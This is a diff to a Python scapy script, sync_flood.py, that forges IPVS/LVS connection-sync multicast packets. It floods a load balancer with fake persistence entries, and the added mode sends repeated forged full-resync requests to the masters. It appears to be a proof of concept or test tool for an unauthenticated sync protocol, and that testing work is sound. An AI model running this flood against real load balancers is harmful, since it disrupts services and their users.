@@ -2,6 +2,8 @@
 # the segment can send them: persistence templates for COUNT distinct clients
 # of VIP:80 on real server RIP, each with the largest timeout the message can
 # carry. Usage: sync_flood.py IFACE SRC_IP VIP RIP COUNT
+# With `requests SYNCID` after COUNT: COUNT full-resync requests (lvsd's: an
+# 8-byte v1 header, no connections, "RS" in the spare field) at the masters.
 import struct, sys
 from scapy.all import Ether, IP, UDP, Raw, conf, get_if_hwaddr
 
@@ -26,6 +28,15 @@ def entry(i):
 
 n = int(count)
 sent = 0
+if len(sys.argv) > 7 and sys.argv[6] == "requests":
+    syncid = int(sys.argv[7])
+    msg = struct.pack("!BBHBBH", 0, syncid, 8, 0, 1, 0x5253)
+    frame = Ether(src=smac, dst="01:00:5e:00:00:51") / IP(src=src, dst=GROUP, ttl=1) / UDP(sport=PORT, dport=PORT) / Raw(msg)
+    raw = bytes(frame)
+    for _ in range(n):
+        s.send(raw)
+    print("sent %d requests" % n, flush=True)
+    sys.exit(0)
 for first in range(0, n, PER_MESSAGE):
     entries = [entry(i) for i in range(first, min(n, first + PER_MESSAGE))]
     body = b"".join(entries)
